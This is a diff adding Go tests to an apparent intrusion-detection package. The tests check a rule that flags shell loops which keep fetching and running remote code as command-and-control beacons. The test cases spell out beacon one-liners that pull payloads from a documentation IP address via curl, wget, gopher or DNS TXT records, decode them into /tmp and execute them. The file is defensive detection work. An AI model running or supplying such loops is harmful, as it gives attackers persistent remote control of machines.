@@ -1,0 +1,67 @@
+package detect
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestFetchRunLoop: a shell loop that fetches and runs what it fetched is
+// a beacon whoever runs it; a loop that only fetches (a health check), a
+// one-off fetch-and-run (an installer) and a loop that runs local files
+// are not.
+func TestFetchRunLoop(t *testing.T) {
+	for _, c := range []struct {
+		cmd  string
+		want bool
+	}{
+		{"while :; do curl -fsS http://198.51.100.7:8001/t | sh; sleep 3; done", true},
+		{"while :; do\n  t=$(curl -s -m 5 \"gopher://198.51.100.7:7070/0/t/$i\")\n  printf '%s' \"$t\" | base64 -d > /tmp/.s-$i\n  sh /tmp/.s-$i\n  sleep 2\ndone", true},
+		{"while :; do c=$(wget -q -O- -T 5 http://198.51.100.7/t); if [ -n \"$c\" ]; then eval \"$c\"; fi; sleep 5; done", true},
+		{"until false; do dig +short TXT t.example.net | sh; sleep 9; done", true},
+		{"while :; do curl -fsS http://127.0.0.1/health >/dev/null || logger down; sleep 5; done", false},
+		{"curl -fsSL https://get.example.com/install.sh | sh", false},
+		{"for f in /etc/cron.daily/*; do sh $f; done", false},
+	} {
+		e, err := New(Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		s := newSynth()
+		fs := e.Observe(s.exec(400, 1, 0, "root", "/", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree)
+		got := findingOf(fs, RuleFetchRunLoop)
+		if (got != nil) != c.want {
+			t.Errorf("%q: fetch-run-loop %v, want %v (%v)", c.cmd, got != nil, c.want, ids(fs))
+			continue
+		}
+		if got != nil && (got.Severity != SeverityHigh || got.Stage != StageCommandAndControl) {
+			t.Errorf("%q: %v at stage %v, want high at command and control", c.cmd, got.Severity, got.Stage)
+		}
+	}
+}
+
+// TestFetchLoopChannel: a flagged loop that no web server or plant is
+// known to have started (a root implant double-forked by a library's
+// constructor: no fork in the log) holds a channel from its first call of
+// its server: the task it then runs is the loop's, flagged at once; the
+// bare shell a `curl | sh` poll pipes into is not a task by itself.
+func TestFetchLoopChannel(t *testing.T) {
+	e, err := New(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := newSynth()
+	e.Observe(s.exec(400, 1, 0, "root", "/", "/usr/bin/dash", "sh", "-c",
+		"while :; do t=$(curl -s http://198.51.100.7:7070/t); printf %s \"$t\" | base64 -d > /tmp/.s; sh /tmp/.s; sleep 2; done"), s.tree)
+	e.Observe(s.exec(401, 400, 0, "root", "/", "/usr/bin/curl", "curl", "-s", "http://198.51.100.7:7070/t"), s.tree)
+	e.Observe(s.connect(401, 400, 0, "/usr/bin/curl", "198.51.100.7", 7070), s.tree)
+	task := findingOf(e.Observe(s.exec(402, 400, 0, "root", "/", "/usr/bin/dash", "sh", "/tmp/.s"), s.tree), "reverse-shell-channel-command")
+	if task == nil {
+		t.Fatal("the loop's task after its first poll is not flagged")
+	}
+	if task.Stage != StageCommandAndControl || !strings.Contains(task.Reason, "shell loop") {
+		t.Errorf("task at stage %v (%s), want command and control, said to be the loop's", task.Stage, task.Reason)
+	}
+	if f := findingOf(e.Observe(s.exec(403, 400, 0, "root", "/", "/usr/bin/dash", "sh"), s.tree), "reverse-shell-channel-command"); f != nil {
+		t.Errorf("a bare reader shell flagged as a task: %s", f.Reason)
+	}
+}
